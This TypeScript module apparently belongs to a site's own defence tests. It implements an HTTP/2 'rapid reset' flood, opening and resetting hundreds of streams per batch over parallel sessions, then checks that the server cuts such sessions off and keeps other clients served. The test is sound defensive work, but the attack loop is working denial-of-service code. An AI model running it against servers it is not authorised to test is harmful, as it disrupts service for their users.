import { encodeReset, greeting } from '@site/shell/testing/raw-http2';
import { readPromise } from '../read-promise';
import { openSite } from './open-site';
import type { Attack } from './attack';
import { watchNeighbor } from './watch-neighbor';

const attackMs = 15_000;
const sessionsAtOnce = 2;
const resetsAtOnce = 200;

export const rapidReset: Attack = {
  name: 'rapid-reset',
  title: `streams of HTTP/2 that are opened and reset at once, ${sessionsAtOnce} sessions at a time`,
  needs: ['tls'],
  run: async ({ url }) => {
    const counts = { resets: 0, sessions: 0, refused: 0 };
    const neighbor = await watchNeighbor(url, async () => {
      const until = performance.now() + attackMs;
      const attackers = Array.from({ length: sessionsAtOnce }, async () => {
        while (performance.now() < until) await attackOnce(url, until, counts);
      });
      await Promise.all(attackers);
    });
    return {
      figures: {
        'streams reset': counts.resets,
        'sessions ended': counts.sessions,
        'connections refused': counts.refused,
        'p99 of a neighbor in ms, idle': neighbor.idleP99,
        'p99 meanwhile': neighbor.p99,
        'responses meanwhile': neighbor.statuses,
      },
      expectations: {
        'such sessions are ended': counts.sessions > 0,
        'their network gets no new ones for a while': counts.refused > 0,
        'everybody else gets responses': neighbor.isServed,
        [readPromise]: neighbor.isQuick,
      },
    };
  },
};

/** Uses one session until the server ends it. */
async function attackOnce(
  url: string,
  until: number,
  counts: { resets: number; sessions: number; refused: number },
): Promise<void> {
  const socket = openSite(url, { protocol: 'h2', isElsewhere: true });
  socket.on('error', () => undefined).resume();
  let isOpen = false;
  let stream = 1;
  const sendResets = () => {
    if (socket.destroyed) return;
    if (performance.now() > until) return void socket.destroy();
    const bytes = Array.from({ length: resetsAtOnce }, (_, index) =>
      encodeReset(stream + 2 * index, index % 2 === 0 ? `/blogs?x=${stream + index}` : '/api/posts/'),
    );
    stream += 2 * resetsAtOnce;
    counts.resets += resetsAtOnce;
    socket.write(Buffer.concat(bytes), () => setTimeout(sendResets, 5));
  };
  socket.once('secureConnect', () => {
    isOpen = true;
    socket.write(greeting);
    sendResets();
  });
  await new Promise((resolve) => socket.once('close', resolve));
  if (performance.now() > until) return;
  if (isOpen) counts.sessions += 1;
  else counts.refused += 1;
  // The delay of a distant client.
  if (!isOpen) await new Promise((resolve) => setTimeout(resolve, 20));
}
